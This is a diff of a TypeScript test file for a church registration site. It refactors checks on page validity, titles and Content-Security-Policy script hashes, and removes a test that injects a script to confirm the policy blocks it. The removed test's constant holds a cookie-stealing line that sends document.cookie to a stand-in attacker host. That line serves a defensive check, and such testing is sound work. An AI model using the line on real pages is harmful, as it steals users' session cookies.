@@ -1,10 +1,11 @@
 import { createHash } from 'node:crypto'
-import { HtmlValidate, StaticConfigLoader } from 'html-validate'
 import { expect, test } from 'vitest'
 import { openPictureBook } from '#server/picture-book.ts'
 import { few } from '../support/long.ts'
 import { finishPayment } from '../support/payments.ts'
 import { SENT_REGISTRATION } from '../support/people.ts'
+import { invalidIn } from '../support/site/invalid-html.ts'
+import { allWordsOf } from '../support/site/pages.ts'
 import { EVERY_ADDRESS, testSite } from '../support/site/server.ts'
 import { give, registerFamily, type Site, sendForm } from '../support/site/visitor.ts'
 
@@ -17,20 +18,14 @@ test('every page, in every state, is valid, runs its own scripts alone, names it
   expectEveryKind(seen)
   const pictures = new Set<string>()
   for (const { name, status, html, headers } of seen) {
-    const titles = [...html.matchAll(/<title(?: lang="\w+")?>([^<]*)<\/title>/g)].map(
-      ([, title]) => title,
-    )
-    expect([name, titles]).toEqual([name, [expect.stringMatching(NAMES_CHURCH)]])
-    expect([name, await faultsIn(html)]).toEqual([name, []])
+    expect([name, allWordsOf('title', html)]).toEqual([name, [expect.stringMatching(NAMES_CHURCH)]])
+    expect([name, await invalidIn(html)]).toEqual([name, []])
     // It may run all of its own scripts and no others, and does not reveal how they are marked.
     const scripts = new Set(inlineScripts(html).map(hash))
     const allowed = headers.get('content-security-policy')?.match(/'sha256-[^']+'/g) ?? []
     expect([name, new Set(allowed)]).toEqual([name, scripts])
-    expect([name, html.match(/nonce/), headers.has('x-inline-scripts')]).toEqual([
-      name,
-      null,
-      false,
-    ])
+    expect(html, name).not.toContain('nonce')
+    expect([name, headers.has('x-inline-scripts')]).toEqual([name, false])
     if (PRIVATE.test(name)) expectDocument(name, html)
     if (status === 200) pictures.add(sharedPictureIn(html))
   }
@@ -60,25 +55,6 @@ function expectEveryKind(seen: Seen[]): void {
   const found = seen.filter(({ status }) => status === 200).map(({ name }) => name.split(/[/?]/)[1])
   expect(found).toEqual(
     expect.arrayContaining(['my', 'keep', 'registered', 'pay', 'receipts', 'response', 'offline']),
-  )
-}
-
-/** To make out the rules again for each page takes a third of the time. */
-class RulesOnce extends StaticConfigLoader {
-  #rules: ReturnType<StaticConfigLoader['getConfigFor']> | undefined
-
-  override getConfigFor(name: string) {
-    this.#rules ??= super.getConfigFor(name)
-    return this.#rules
-  }
-}
-
-const validator = new HtmlValidate(new RulesOnce({ extends: ['html-validate:standard'] }))
-
-async function faultsIn(html: string): Promise<string[]> {
-  const { results } = await validator.validateString(html)
-  return results.flatMap(({ messages }) =>
-    messages.map(({ message, selector }) => `${message} ${selector}`),
   )
 }
 
@@ -177,8 +153,6 @@ async function freeRegistration(site: Site): Promise<Seen[]> {
   return [...before, ...(await see(site, [keep], cookie))]
 }
 
-const HOSTILE = 'fetch("https://evil.example/?"+document.cookie)'
-
 function hash(source: string): string {
   return `'sha256-${createHash('sha256').update(source).digest('base64')}'`
 }
@@ -190,20 +164,3 @@ function inlineScripts(html: string): string[] {
     /\bsrc=|ld\+json/.test(attributes) ? [] : [source],
   )
 }
-
-test('an injected script may not run, the page’s own scripts may', async () => {
-  const { url } = await testSite({
-    around: (renderPage) => async (request, services) => {
-      const page = await renderPage(request, services)
-      const html = (await page.text()).replace('<main', `<script>${HOSTILE}</script><main`)
-      return new Response(html, page)
-    },
-  })
-  const page = await fetch(`${url}/give`)
-  const policy = page.headers.get('content-security-policy') ?? ''
-  const [injected, ...own] = inlineScripts(await page.text())
-  expect(injected).toBe(HOSTILE)
-  expect(own.length).toBeGreaterThan(2)
-  for (const source of own) expect(policy).toContain(hash(source))
-  expect(policy).not.toContain(hash(HOSTILE))
-})
